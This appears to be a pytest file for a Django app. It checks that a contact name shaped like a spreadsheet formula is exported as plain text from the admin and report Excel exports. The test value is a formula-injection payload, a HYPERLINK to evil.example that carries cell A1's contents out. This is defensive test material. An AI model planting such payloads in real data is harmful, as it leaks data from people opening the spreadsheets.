"""A customer's text never reaches a supervisor's Excel as a live formula (admin exports and reports)."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.leads.factories import LeadFactory
from tests.reports.conftest import response_bytes

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Ver factura")'


def _cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))  # not read-only: cell types are kept
    return [cell for row in workbook.active.iter_rows() for cell in row]


def test_a_profile_name_that_looks_like_a_formula_is_exported_as_text_from_admin(client, admin_user, agent):
    lead = LeadFactory(contact__name=HOSTILE, assignee=agent)
    client.force_login(admin_user)
    response = client.post(reverse("admin:leads_lead_changelist"),
                           {"action": "export_excel", "_selected_action": [lead.pk]})
    hostile = [cell for cell in _cells(response_bytes(response)) if cell.value == HOSTILE]
    assert hostile and all(cell.data_type == "s" for cell in hostile)


def test_a_profile_name_that_looks_like_a_formula_is_exported_as_text_from_reports(client, supervisor, agent):
    LeadFactory(contact__name=HOSTILE, assignee=agent)
    client.force_login(supervisor)
    response = client.post("/admin/reports/exportlog/export/", {"kind": "leads", "columns_leads": ["contact"]})
    hostile = [cell for cell in _cells(response_bytes(response)) if cell.value == HOSTILE]
    assert hostile and all(cell.data_type == "s" for cell in hostile)
